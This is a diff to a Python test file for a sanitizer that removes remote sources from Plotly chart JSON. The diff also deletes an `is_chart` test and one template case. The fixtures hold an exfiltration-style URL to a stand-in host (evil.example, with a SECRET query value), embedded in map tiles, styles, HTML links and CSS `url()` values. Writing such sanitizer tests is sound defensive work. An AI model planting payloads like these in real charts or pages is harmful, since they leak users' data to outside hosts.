@@ -9,7 +9,7 @@ from typing import Any
 import plotly.graph_objects as go
 import pytest
 
-from task.output.charts import is_chart, without_remote_sources
+from task.output.charts import without_remote_sources
 
 EVIL = "https://evil.example/p?d=SECRET"
 PIXEL = "data:image/png;base64,iVBORw0KGgo//AAA="
@@ -46,7 +46,6 @@ def test_an_ordinary_chart_stays_as_it_is() -> None:
         {"layout": {"mapbox": {"style": EVIL, "layers": [{"sourcetype": "raster", "source": [EVIL]}]}}},
         {"layout": {"map2": {"style": {"sources": {"a": {"tiles": [EVIL]}}}, "layers": [{"source": EVIL}]}}},
         {"layout": {"map": {"style": "open-street-map"}}},
-        {"layout": {"template": {"layout": {"mapbox": {"style": "open-street-map"}}}}},
         {"layout": {"title": {"text": f"<a href='{EVIL}'>more</a>"}}},
         {"layout": {"annotations": [{"text": f'<a target="x" HREF="{EVIL}">more</a>'}]}},
         {"data": [{"text": ["<span style='fill:url(//evil.example/p)'>x</span>"]}]},
@@ -88,16 +87,3 @@ def test_numbers_that_json_does_not_have_are_left_out() -> None:
     assert json.loads(without_remote_sources(b'{"data":[{"y":[NaN,1,-Infinity]}],"layout":{}}')) == {
         "data": [{"y": [None, 1, None]}], "layout": {},
     }  # fmt: skip
-
-
-@pytest.mark.parametrize(
-    ("content_type", "chart"),
-    [
-        ("application/vnd.plotly.v1+json", True),
-        ("Application/VND.plotly.v1+json; charset=utf-8", True),
-        ("application/json", False),
-        ("", False),
-    ],
-)
-def test_a_chart_is_known_by_its_type(content_type: str, chart: bool) -> None:
-    assert is_chart(content_type) is chart
